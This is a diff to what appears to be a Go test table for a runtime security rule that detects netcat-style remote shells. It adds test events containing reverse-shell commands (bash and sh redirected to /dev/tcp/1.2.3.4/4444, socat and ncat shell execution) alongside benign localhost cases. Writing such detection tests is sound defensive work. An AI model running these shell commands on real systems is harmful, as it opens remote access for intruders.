@@ -97,6 +97,9 @@ var cases = []struct {
 	{"Netcat-style remote shell", true, "ncat --sh-exec in a container", container(withArgs(event("execve", "ncat", 0, "python3"), "10.0.0.1", "4444", "--sh-exec", "sh -i"))},
 	{"Netcat-style remote shell", true, "socat EXEC", withArgs(event("execve", "socat", 0, "bash"), "TCP:1.2.3.4:4444", "EXEC:/bin/bash,pty")},
 	{"Netcat-style remote shell", true, "bash to /dev/tcp", withArgs(event("execve", "bash", 0, "php-fpm"), "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")},
+	{"Netcat-style remote shell", true, "stdin from /dev/tcp", withArgs(event("execve", "sh", 0, "python3"), "-c", "exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196")},
+	{"Netcat-style remote shell", false, "health check through /dev/tcp", withArgs(event("execve", "bash", 0, "kubelet"), "-c", "echo > /dev/tcp/localhost/8080")},
+	{"Netcat-style remote shell", false, "socket opened with exec", withArgs(event("execve", "bash", 0, "runc"), "-c", "exec 3<>/dev/tcp/127.0.0.1/8080")},
 	{"Netcat-style remote shell", false, "nc port scan", withArgs(event("execve", "nc", 0, "bash"), "-zv", "db", "5432")},
 	{"Netcat-style remote shell", false, "failed exec", withArgs(event("execve", "nc", -2, "bash"), "-e", "/bin/sh")},
 
